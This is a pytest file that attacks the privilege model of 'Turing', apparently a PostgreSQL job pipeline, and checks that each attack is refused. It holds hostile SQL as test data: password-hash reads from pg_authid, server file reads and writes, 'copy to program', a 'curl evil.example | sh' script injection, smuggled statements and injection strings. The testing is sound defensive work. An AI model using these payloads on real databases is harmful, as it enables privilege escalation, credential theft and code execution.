"""Attacks, tried as an attacker would, with one login in each of Turing's roles (issue 15).

Each test names the fence it leans on; removing that fence makes it fail:
* turing_owner is not a superuser (db/privileges.sql hands it every object);
* an actor's SQL runs as its run_as role, through wrappers in turing_actor (register_actor,
  _actor_sql), which the registrant must be a member of;
* the work_query is planned as run_as through a cursor (_validate_work_query);
* runner calls are bound to the secret register_runner issued (heartbeat, release_worker);
* the grants of db/privileges.sql.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import sql
from psycopg.conninfo import conninfo_to_dict, make_conninfo

from turing_pg.db import Turing, TuringError

# The runner API: everything turing_runner may execute (db/privileges.sql), nothing more.
RUNNER_API = {
    "claim_batch", "held_back", "start_tickets", "report_model_load", "return_tickets", "top_up",
    "discover_due", "report_backend", "maintain", "complete_ticket", "complete_batch",
    "fail_ticket", "fail_batch", "heartbeat", "register_runner", "release_worker", "reap",
    "startup_state", "model_backlog", "run_sql_ticket", "compact_counts", "release_unheld",
    "skip_ticket",
}

# What turing_viewer may execute: the read-only functions the CLI reads through.
VIEWER_READS = {"find_tickets", "actor_definitions", "startup_state", "check_pipeline",
                "peek_events", "chain_story", "recent_reaps", "actor_history", "actor_diff",
                "ticket_story", "model_throughput", "runner_board", "ticket_page",
                "actor_stages", "qa_summary", "raq_attempts"}


def _as(dsn: str, user: str) -> str:
    params = conninfo_to_dict(dsn)
    params["user"] = user
    params.pop("password", None)
    return make_conninfo(**params)


@dataclass
class Cast:
    """One login per role, a pipeline role and its domain tables, in a fresh database."""

    dsn: str
    admin: str
    runner: str
    viewer: str
    app: str
    other: str  # a role the admin is not a member of

    def connect(self, user: str) -> psycopg.Connection:
        return psycopg.connect(_as(self.dsn, user), autocommit=True)


@pytest.fixture
def cast(dsn: str, conn: psycopg.Connection) -> Iterator[Cast]:
    s = uuid.uuid4().hex[:8]
    c = Cast(dsn, f"atk_admin_{s}", f"atk_runner_{s}", f"atk_viewer_{s}", f"atk_app_{s}",
             f"atk_other_{s}")
    ident = sql.Identifier
    for login, role in ((c.admin, "turing_admin"), (c.runner, "turing_runner"),
                        (c.viewer, "turing_viewer")):
        conn.execute(sql.SQL("create role {} login in role {}").format(ident(login), ident(role)))
    conn.execute(sql.SQL("create role {} nologin").format(ident(c.app)))
    conn.execute(sql.SQL("create role {} nologin").format(ident(c.other)))
    conn.execute(sql.SQL("grant {} to {}").format(ident(c.app), ident(c.admin)))
    conn.execute(
        """
        create schema shop;
        create table shop.orders (id integer primary key, status text not null default 'new',
                                  note text);
        insert into shop.orders (id) select g from generate_series(1, 5) g;
        create table shop.payroll (name text, salary integer);
        insert into shop.payroll values ('ceo', 1000000);
        create function shop.order_done(p_ticket_id bigint, p_subject_id text, p_input jsonb,
                                        p_output jsonb)
        returns void language sql as $$
            update shop.orders set status = 'done', note = p_output ->> 'note'
            where id = p_subject_id::integer
        $$;
        """
    )
    conn.execute(sql.SQL(
        "grant usage on schema shop to {app}; grant select, update on shop.orders to {app}"
    ).format(app=ident(c.app)))
    try:
        yield c
    finally:
        for role in (c.admin, c.runner, c.viewer, c.app, c.other):
            conn.execute(sql.SQL("drop owned by {} cascade").format(ident(role)))
            conn.execute(sql.SQL("drop role {}").format(ident(role)))


def orders_actor(c: Cast, **overrides: Any) -> dict[str, Any]:
    spec = dict(
        name="orders", kind="script", script="cat", model="cpu", run_as=c.app,
        work_query="select o.id as subject_id, o.note from shop.orders as o "
                   "where o.status = 'new'",
        on_complete="shop.order_done", backoff_base="0 seconds", max_attempts=1,
    )
    spec.update(overrides)
    return spec


def register_as(c: Cast, user: str, spec: dict[str, Any]) -> int:
    with Turing(_as(c.dsn, user), max_size=1) as t:
        return t.register_actor(spec)


def refused(c: Cast, user: str, statement: str, params: Any = None) -> str:
    """Run `statement` as `user`; it must fail. Returns the error's message."""
    with c.connect(user) as cx, pytest.raises(psycopg.Error) as caught:
        cx.execute(statement, params)
    return str(caught.value)


def discover_error(c: Cast, actor: str = "orders") -> str:
    with c.connect(c.admin) as cx, pytest.raises(psycopg.Error) as caught:
        cx.execute("select turing.discover(%s)", (actor,))
    return str(caught.value)


def refused_or_at_discovery(c: Cast, spec: dict[str, Any]) -> str:
    """Register `spec` as the admin login and discover it: the error of whichever refused."""
    try:
        register_as(c, c.admin, spec)
    except TuringError as exc:
        return str(exc)
    return discover_error(c, spec["name"])


def run_one(c: Cast, output: dict[str, Any], actor_kind_sql: bool = False) -> dict[str, Any]:
    """Claim one ticket as the runner login and complete it (or run it, for a sql actor);
    returns the ticket's row in the history."""
    with Turing(_as(c.dsn, c.runner), max_size=1) as t:
        t.register_runner("atk-runner", ["cpu"])
        [ticket] = t.claim_batch("cpu", "atk-runner", 1)
        if actor_kind_sql:
            t.run_sql_ticket(ticket.ticket_id, ticket.lease_token)
        else:
            t.complete_batch([(ticket.ticket_id, ticket.lease_token, output)])
    with psycopg.connect(c.dsn, autocommit=True) as su:
        row = su.execute(
            "select status, error from turing.ticket_history where ticket_id = %s",
            (ticket.ticket_id,),
        ).fetchone()
    assert row is not None
    return {"status": row[0], "error": row[1]}


# -- who owns what ------------------------------------------------------------------------------


def test_turings_objects_belong_to_a_plain_role_not_to_the_installer(conn):
    """Fence: db/privileges.sql hands every object to turing_owner, which is no superuser."""
    owners = conn.execute(
        "select distinct r.rolname, r.rolsuper, r.rolcreaterole, r.rolcanlogin "
        "from pg_class c join pg_roles r on r.oid = c.relowner "
        "where c.relnamespace = 'turing'::regnamespace "
        "union select distinct r.rolname, r.rolsuper, r.rolcreaterole, r.rolcanlogin "
        "from pg_proc p join pg_roles r on r.oid = p.proowner "
        "where p.pronamespace = 'turing'::regnamespace"
    ).fetchall()
    assert owners == [("turing_owner", False, False, False)]


# -- an admin cannot gain more privilege through an actor (issue 15, item 1) ---------------------


def test_a_work_query_reading_password_hashes_is_refused(cast):
    with pytest.raises(TuringError, match="pg_authid"):
        register_as(cast, cast.admin, orders_actor(
            cast, on_complete=None,
            work_query="select a.rolname as subject_id, a.rolpassword from pg_catalog.pg_authid a",
        ))


@pytest.mark.parametrize("call", [
    "pg_catalog.pg_read_file('/etc/hostname')",
    "pg_catalog.pg_ls_dir('/')::text",
    "pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, '\\x41'), '/tmp/turing-attack')::text",
])
def test_a_work_query_calling_server_file_functions_runs_as_run_as_and_is_refused(cast, call):
    """Planned as run_as at registration (the EXECUTE privilege is checked then), and run as
    run_as at discovery: refused either way."""
    assert "permission denied" in refused_or_at_discovery(
        cast, orders_actor(cast, on_complete=None, work_query=f"select {call} as subject_id"))
    assert not Path("/tmp/turing-attack").exists()


def test_a_work_query_cannot_terminate_another_session(cast, conn):
    victim = conn.execute("select pg_backend_pid()").fetchone()[0]
    error = refused_or_at_discovery(cast, orders_actor(
        cast, on_complete=None,
        work_query=f"select pg_catalog.pg_terminate_backend({victim})::text as subject_id"))
    assert "permission denied" in error or "must be" in error
    assert conn.execute("select 1").fetchone() == (1,), "the victim's session is alive"


def test_a_work_query_cannot_read_turings_own_tables(cast):
    """Fence: the wrapper runs as run_as, not as turing_owner (who may read every table)."""
    assert "permission denied for table runners" in refused_or_at_discovery(
        cast, orders_actor(cast, on_complete=None, work_query=(
            "select r.worker as subject_id, r.secret_hash from turing.runners as r")))


def test_an_on_complete_cannot_write_turings_tables_or_files(cast, conn):
    """Fence: on_complete runs as run_as through its wrapper. As turing_owner this one would
    re-enable itself and rewrite every actor's script."""
    conn.execute("""
        create function shop.evil_done(p_ticket_id bigint, p_subject_id text, p_input jsonb,
                                       p_output jsonb)
        returns void language plpgsql as $$
        begin
            update turing.actors set script = 'curl evil.example | sh';
            perform pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, '\\x41'), '/tmp/turing-oc');
        end $$
    """)
    register_as(cast, cast.admin, orders_actor(cast, on_complete="shop.evil_done"))
    done = run_one(cast, {"note": "x"})
    assert done["status"] == "dead" and "permission denied for table actors" in done["error"]
    assert conn.execute("select distinct script from turing.actors").fetchall() == [("cat",)]
    assert not Path("/tmp/turing-oc").exists()


def test_an_on_complete_cannot_run_a_program(cast, conn):
    conn.execute("""
        create function shop.shell_done(p_ticket_id bigint, p_subject_id text, p_input jsonb,
                                        p_output jsonb)
        returns void language plpgsql as $$
        begin
            execute 'copy (select 1) to program ''touch /tmp/turing-program''';
        end $$
    """)
    register_as(cast, cast.admin, orders_actor(cast, on_complete="shop.shell_done"))
    done = run_one(cast, {"note": "x"})
    # PostgreSQL 15 and 16+ word it differently; both are SQLSTATE 42501
    assert done["status"] == "dead" and "42501" in done["error"]
    assert "COPY to or from an external program" in done["error"]
    assert not Path("/tmp/turing-program").exists()


def test_a_sql_actor_reads_only_what_its_run_as_role_may(cast, conn):
    conn.execute("""
        create function shop.peek(p_subject_id text, p_input jsonb) returns jsonb
        language sql as $$ select pg_catalog.to_jsonb(p) from shop.payroll p limit 1 $$
    """)
    register_as(cast, cast.admin, orders_actor(
        cast, kind="sql", script=None, sql_function="shop.peek", on_complete=None))
    done = run_one(cast, {}, actor_kind_sql=True)
    assert done["status"] == "dead" and "permission denied for table payroll" in done["error"]


def test_dblink_is_no_way_around_run_as(cast, conn):
    if not conn.execute(
            "select exists (select from pg_available_extensions where name = 'dblink')"
    ).fetchone()[0]:
        pytest.skip("dblink is not installed on this server")
    conn.execute("create extension if not exists dblink")
    error = refused_or_at_discovery(cast, orders_actor(cast, on_complete=None, work_query=(
        "select x.a as subject_id from public.dblink('dbname=postgres', "
        "'select rolpassword from pg_authid') as x (a text)")))
    assert "password" in error or "permission denied" in error


@pytest.mark.parametrize("run_as", ["postgres_superuser", "turing_owner", "other", "viewer"])
def test_an_admin_cannot_name_a_run_as_role_it_is_not_a_member_of(cast, conn, run_as):
    role = {
        "postgres_superuser": conn.execute("select current_user").fetchone()[0],
        "turing_owner": "turing_owner", "other": cast.other, "viewer": cast.viewer,
    }[run_as]
    with pytest.raises(TuringError) as caught:
        register_as(cast, cast.admin, orders_actor(cast, run_as=role))
    assert caught.value.sqlstate == "TR013"
    assert conn.execute("select count(*) from turing.actors").fetchone()[0] == 0


def test_the_owners_half_of_register_actor_does_not_let_an_admin_skip_the_wrappers(cast, conn):
    """_register_actor stores a definition as turing_owner, but SQL only ever runs through
    wrappers that belong to run_as: an actor stored without them runs nothing."""
    with cast.connect(cast.admin) as cx:
        cx.execute("select turing._register_actor(%s, %s)", (psycopg.types.json.Jsonb(
            orders_actor(cast, on_complete=None)), cast.admin))
    assert "TR013" in discover_error(cast) or "wrapper" in discover_error(cast)


def test_a_wrapper_altered_to_security_invoker_is_refused(cast, conn):
    """A member of run_as owns the wrappers and may ALTER them: as SECURITY INVOKER the work
    query would run as turing_owner. Fence: _actor_sql before and after each call."""
    actor_id = register_as(cast, cast.admin, orders_actor(cast))
    with cast.connect(cast.admin) as cx:
        cx.execute(sql.SQL("set role {}").format(sql.Identifier(cast.app)))
        cx.execute(f"alter function turing_actor.a{actor_id}_work() security invoker")
        cx.execute(f"alter function turing_actor.a{actor_id}_on_complete(bigint, text, jsonb, "
                   "jsonb) security invoker")
    assert "no longer" in discover_error(cast)
    with cast.connect(cast.admin) as cx:
        cx.execute("select turing.submit('orders', '1')")
    done = run_one(cast, {"note": "as the owner"})
    assert done["status"] == "dead" and "no longer" in done["error"]
    assert conn.execute("select count(*) from shop.orders where note is not null").fetchone() \
        == (0,)


def test_a_wrapper_rewritten_by_a_member_of_run_as_still_runs_as_run_as(cast, conn):
    actor_id = register_as(cast, cast.admin, orders_actor(cast, on_complete=None))
    with cast.connect(cast.admin) as cx:
        cx.execute(sql.SQL("set role {}").format(sql.Identifier(cast.app)))
        cx.execute(
            f"create or replace function turing_actor.a{actor_id}_work() "
            "returns table (subject_id text, input jsonb) language sql stable security definer "
            "set search_path = '' as "
            "$$ select a.rolname::text, '{}'::jsonb from pg_catalog.pg_authid a $$"
        )
    assert "permission denied for table pg_authid" in discover_error(cast)


@pytest.mark.parametrize("work_query", [
    # a writing CTE
    "with d as (update shop.orders set note = 'pwned' returning id) "
    "select d.id as subject_id from d",
    # a second statement smuggled after a ')': EXPLAIN or EXECUTE of it ran the update
    "select 1 as subject_id) as q; update shop.orders set note = 'pwned'; select (1",
    # several statements
    "select 1 as subject_id; update shop.orders set note = 'pwned'",
    "update shop.orders set note = 'pwned' returning id as subject_id",
])
def test_a_work_query_that_writes_is_refused_and_writes_nothing(cast, conn, work_query):
    with pytest.raises(TuringError) as caught:
        register_as(cast, cast.admin, orders_actor(cast, work_query=work_query))
    assert caught.value.sqlstate == "TR001"
    assert conn.execute("select count(*) from shop.orders where note = 'pwned'").fetchone() == (0,)


# -- injection through names and subjects --------------------------------------------------------


def test_injection_through_an_actor_name_is_refused(cast, conn):
    with pytest.raises(TuringError) as caught:
        register_as(cast, cast.admin, orders_actor(
            cast, name='orders"; drop table shop.orders; --'))
    assert caught.value.sqlstate == "TR009"
    assert conn.execute("select count(*) from shop.orders").fetchone() == (5,)


def test_injection_through_model_names_and_subject_ids_is_data(cast, conn):
    register_as(cast, cast.admin, orders_actor(cast, work_query=None))
    evil = "1'); delete from shop.orders; --"
    with Turing(_as(cast.dsn, cast.admin), max_size=1) as t:
        t.submit("orders", evil)
        with pytest.raises(TuringError):
            t.register_runner("w", ["cpu'); delete from shop.orders; --"])
        with pytest.raises(TuringError):
            t.claim_batch("cpu'); delete from shop.orders; --", "w", 5)
    assert conn.execute("select subject_id from turing.ticket_open").fetchall() == [(evil,)]
    assert conn.execute("select count(*) from shop.orders").fetchone() == (5,)


# -- what each login may touch directly ---------------------------------------------------------


@pytest.mark.parametrize("who", ["runner", "viewer", "admin"])
def test_no_login_reads_or_writes_a_domain_table_it_was_not_granted(cast, who):
    user = getattr(cast, who)
    assert "permission denied" in refused(cast, user, "select * from shop.payroll")
    assert "permission denied" in refused(cast, user, "update shop.payroll set salary = 0")


@pytest.mark.parametrize("who", ["runner", "viewer", "admin"])
def test_no_login_writes_turings_tables(cast, who):
    user = getattr(cast, who)
    for statement in (
        "insert into turing.settings (key, value) values ('events', 'off')",
        "update turing.actors set script = 'sh'",
        "delete from turing.ticket_history",
        "update turing.runners set status = 'stopped'",
    ):
        assert "permission denied" in refused(cast, user, statement), statement


@pytest.mark.parametrize("who", ["runner", "viewer"])
def test_runner_and_viewer_read_no_turing_table(cast, who):
    for table in ("actors", "ticket_open", "ticket_history", "runners", "settings"):
        assert "permission denied" in refused(cast, getattr(cast, who),
                                              f"select * from turing.{table}")


def test_the_runner_executes_the_runner_api_and_no_other_function(cast, conn):
    allowed = {r[0] for r in conn.execute(
        "select p.proname from pg_proc p where p.pronamespace = 'turing'::regnamespace "
        "and has_function_privilege(%s, p.oid, 'execute')", (cast.runner,))}
    assert allowed == RUNNER_API
    for call in ("turing.register_actor('{}'::jsonb)", "turing.submit('a', '1')",
                 "turing.set_actor('a', '{}')", "turing.cancel_ticket(1)",
                 "turing.remove_actor('a', true)",
                 "turing.rerun('a')", "turing.discover('a')", "turing.check_pipeline()",
                 "turing.spawn(1, 'a', '1')", "turing._discover(1)",
                 "turing._register_actor('{}', 'x')"):
        assert "permission denied" in refused(cast, cast.runner, f"select {call}"), call


def test_the_viewer_executes_only_the_read_functions_of_the_cli(cast, conn):
    allowed = {r[0] for r in conn.execute(
        "select p.proname from pg_proc p where p.pronamespace = 'turing'::regnamespace "
        "and has_function_privilege(%s, p.oid, 'execute')", (cast.viewer,))}
    assert allowed == VIEWER_READS
    assert "permission denied" in refused(cast, cast.viewer,
                                          "select turing.register_actor('{}'::jsonb)")


@pytest.mark.parametrize("who", ["runner", "viewer"])
def test_runner_and_viewer_cannot_call_an_actors_wrapper(cast, who):
    """(A member of run_as may: it runs as run_as, which that member can do anyway.)"""
    actor_id = register_as(cast, cast.admin, orders_actor(cast))
    assert "permission denied" in refused(
        cast, getattr(cast, who), f"select turing_actor.a{actor_id}_on_complete(1, '1', "
                                  "'{}', '{\"note\": \"forged\"}')")


@pytest.mark.parametrize("who", ["runner", "viewer", "admin"])
def test_no_login_acts_as_the_owner(cast, who):
    assert "permission denied" in refused(cast, getattr(cast, who), "set role turing_owner")


# -- a runner acts only on its own work (issue 15, item 2) --------------------------------------


def test_another_runners_name_gets_nothing(cast, conn):
    register_as(cast, cast.admin, orders_actor(cast))
    with Turing(_as(cast.dsn, cast.runner), max_size=1) as victim:
        victim.register_runner("victim", ["cpu"])
        claimed = victim.claim_batch("cpu", "victim", 5, start_now=0)
        assert len(claimed) == 5
    before = conn.execute(
        "select ticket_id, status, worker, lease_token, lease_expires_at from turing.ticket_open "
        "order by ticket_id").fetchall()
    seen = conn.execute("select last_seen_at, status from turing.runners").fetchall()
    guesses = [None, "", "0" * 64, str(uuid.uuid4()).replace("-", "") * 2]
    with cast.connect(cast.runner) as cx:
        for guess in guesses:
            released = cx.execute(
                "select turing.release_worker(p_worker => 'victim', p_secret => %s)", (guess,)
            ).fetchone()[0]
            assert released == 0
            assert cx.execute(
                "select turing.release_unheld('victim', %s, '{}')", (guess,)).fetchone()[0] == 0
            held = cx.execute(
                "select held from turing.heartbeat('victim', %s, %s, %s)",
                (guess, [t.ticket_id for t in claimed], [t.lease_token for t in claimed]),
            ).fetchall()
            assert held == [(False,)] * 5
            with pytest.raises(psycopg.Error) as caught:
                cx.execute("select turing.register_runner('victim', array['cpu'], "
                           "p_secret => %s)", (guess,))
            assert caught.value.sqlstate == "TR014"
    assert conn.execute(
        "select ticket_id, status, worker, lease_token, lease_expires_at from turing.ticket_open "
        "order by ticket_id").fetchall() == before
    assert conn.execute("select last_seen_at, status from turing.runners").fetchall() == seen
    assert conn.execute("select count(*) from turing.runners where secret_hash is null"
                        ).fetchone() == (0,)


def test_the_runner_that_registered_keeps_its_name_across_reconnects(cast, conn):
    register_as(cast, cast.admin, orders_actor(cast))
    with Turing(_as(cast.dsn, cast.runner), max_size=1) as t:
        t.register_runner("me", ["cpu"])
        [ticket] = t.claim_batch("cpu", "me", 1, start_now=0)
        t.register_runner("me", ["cpu"])  # a reconnect re-registers with its secret
        assert t.heartbeat("me", [(ticket.ticket_id, ticket.lease_token)]) == {
            ticket.ticket_id: True}
        assert t.release_worker("me") == 1


def test_forged_and_guessed_lease_tokens_change_nothing(cast, conn):
    register_as(cast, cast.admin, orders_actor(cast))
    with Turing(_as(cast.dsn, cast.runner), max_size=1) as t:
        t.register_runner("me", ["cpu"])
        [ticket] = t.claim_batch("cpu", "me", 1)
        forged = uuid.uuid4()
        assert not t.complete_ticket(ticket.ticket_id, forged, {"note": "forged"})
        assert t.complete_batch([(ticket.ticket_id + 1, ticket.lease_token, {"note": "x"})]
                                )[0].accepted is False
        assert t.fail_batch([(ticket.ticket_id, forged, "x", "failed", False)])[0].accepted \
            is False
    assert conn.execute("select count(*) from shop.orders where note is not null").fetchone() \
        == (0,)


def test_a_stopped_runners_name_may_be_taken_over(cast, conn):
    with Turing(_as(cast.dsn, cast.runner), max_size=1) as first:
        first.register_runner("fixed-name", [])
        first.release_worker("fixed-name")  # stopped
    with Turing(_as(cast.dsn, cast.runner), max_size=1) as second:
        second.register_runner("fixed-name", [])
        assert second.heartbeat("fixed-name") == {}
    assert conn.execute("select status from turing.runners").fetchall() == [("running",)]


# -- the taxonomy demo runs with its own role ---------------------------------------------------


def test_the_demo_actors_run_as_the_demo_role(turing, conn):
    from turing_pg.actors.taxonomy.loader import load_pipeline

    load_pipeline(turing, conn, limit=3)
    assert conn.execute("select distinct run_as::text from turing.actors").fetchall() == [
        ("taxonomy_pipeline",)]
    assert conn.execute(
        "select distinct r.rolname, r.rolsuper from pg_proc p join pg_roles r on "
        "r.oid = p.proowner where p.pronamespace = 'turing_actor'::regnamespace"
    ).fetchall() == [("taxonomy_pipeline", False)]


# -- production: the database belongs to a non-superuser installer --------------------------------


def test_a_non_superuser_owner_installs_turing_and_actors_run_as_their_role(pg_server, template_db):
    """As the README says for production: a login that owns the database and may create roles
    (no superuser) runs `db up`; an admin registers an actor that runs as its pipeline role."""
    from turing_pg import schema

    s = uuid.uuid4().hex[:8]
    installer, admin, app, db = (f"atk_installer_{s}", f"atk_admin_{s}", f"atk_app_{s}",
                                 f"atk_db_{s}")
    ident = sql.Identifier
    with psycopg.connect(pg_server, autocommit=True) as su:
        # the README's recipe: turing_owner exists (the template made it) and the installer is
        # in it, since from PostgreSQL 16 on CREATEROLE alone cannot grant a role made by others
        su.execute(sql.SQL("create role {} login createrole in role turing_owner").format(
            ident(installer)))
        su.execute(sql.SQL("create database {} owner {}").format(ident(db), ident(installer)))
    params = conninfo_to_dict(pg_server)
    params.update(dbname=db, user=installer)
    installer_dsn = make_conninfo(**params)
    try:
        schema.upgrade(installer_dsn)
        assert schema.upgrade(installer_dsn) == [
            "re-applied functions, triggers, views and privileges"]
        with psycopg.connect(installer_dsn, autocommit=True) as cx:
            # why: as the superuser: turing_admin was made by another install of this cluster
            with psycopg.connect(pg_server, autocommit=True) as su:
                su.execute(sql.SQL("create role {} login in role turing_admin").format(
                    ident(admin)))
            cx.execute(sql.SQL("create role {} nologin").format(ident(app)))
            cx.execute(sql.SQL("grant {} to {}").format(ident(app), ident(admin)))
            cx.execute("create schema shop; create table shop.orders (id integer primary key, "
                       "status text not null default 'new', note text); insert into shop.orders "
                       "(id) select g from generate_series(1, 3) g; create function "
                       "shop.order_done(bigint, text, jsonb, jsonb) returns void language sql as "
                       "$$ update shop.orders set status = 'done', note = $4 ->> 'note' "
                       "where id = $2::integer $$")
            cx.execute(sql.SQL("grant usage on schema shop to {a}; grant select, update on "
                               "shop.orders to {a}").format(a=ident(app)))
            assert cx.execute(
                "select distinct r.rolname from pg_proc p join pg_roles r on r.oid = p.proowner "
                "where p.pronamespace = 'turing'::regnamespace").fetchall() == [("turing_owner",)]
        params.update(user=admin)
        with Turing(make_conninfo(**params), max_size=1) as t:
            t.register_actor(dict(name="orders", kind="script", script="cat", model="cpu",
                                  run_as=app, on_complete="shop.order_done",
                                  work_query="select o.id as subject_id from shop.orders as o "
                                             "where o.status = 'new'"))
            assert t.discover("orders") == 3
            t.register_runner("w", ["cpu"])
            claimed = t.claim_batch("cpu", "w", 3)
            outcomes = t.complete_batch([(c.ticket_id, c.lease_token, {"note": "ok"})
                                         for c in claimed])
            assert [o.accepted for o in outcomes] == [True] * 3
            with pytest.raises(TuringError) as caught:
                t.register_actor(dict(name="sneaky", kind="script", script="cat", model="cpu",
                                      run_as=installer, work_query="select 1 as subject_id"))
            assert caught.value.sqlstate == "TR013"
        with psycopg.connect(installer_dsn, autocommit=True) as cx:
            assert cx.execute("select count(*) from shop.orders where note = 'ok'"
                              ).fetchone() == (3,)
    finally:
        with psycopg.connect(pg_server, autocommit=True) as su:
            su.execute(sql.SQL("drop database if exists {} with (force)").format(ident(db)))
            for role in (admin, app, installer):
                su.execute(sql.SQL("drop role if exists {}").format(ident(role)))
